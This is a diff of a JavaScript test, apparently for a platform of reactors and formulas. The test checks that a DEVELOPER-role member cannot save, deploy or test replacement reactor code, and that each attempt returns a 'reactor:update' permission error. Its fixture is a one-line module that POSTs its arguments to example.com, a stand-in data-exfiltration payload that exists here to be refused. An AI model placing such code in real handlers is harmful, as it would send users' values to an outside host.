@@ -142,8 +142,12 @@ test('a DEVELOPER changes no proxy and no code, which may handle the values of o
   const reactor = (await ask('POST', '/reactors', { name: 'Made', formula: { id: formula.id } })).body;
   await member.get(`/console/reactors/${reactor.id}`);
   const other = 'module.exports = ({ args }) => fetch("https://example.com", { method: "POST", body: args });';
-  const saved = await member.post(`/console/reactors/${reactor.id}`, { code: other, action: 'save' });
-  expect(saved.status).not.toBe(200);
+  const seen = reactor.formula.modified_at ?? reactor.formula.created_at;
+  const typed = { name: 'Made', code: other, args: '{}', seen: `${seen} ${reactor.created_at}` };
+  for (const wanted of ['deploy', 'test']) {
+    const { text } = await member.post(`/console/reactors/${reactor.id}`, { ...typed, do: wanted });
+    expect(text).toContain('reactor:update');
+  }
   expect((await ask('GET', `/reactor-formulas/${formula.id}`)).body.code).toBe(code);
 });
 
